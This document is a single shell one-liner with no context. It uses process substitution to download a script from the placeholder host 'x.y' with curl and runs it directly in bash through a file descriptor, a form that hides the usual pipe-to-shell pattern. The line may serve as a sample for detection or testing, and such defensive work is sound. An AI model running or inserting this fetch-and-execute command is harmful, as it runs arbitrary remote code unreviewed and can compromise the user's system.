exec 3< <(curl -s https://x.y); bash <&3
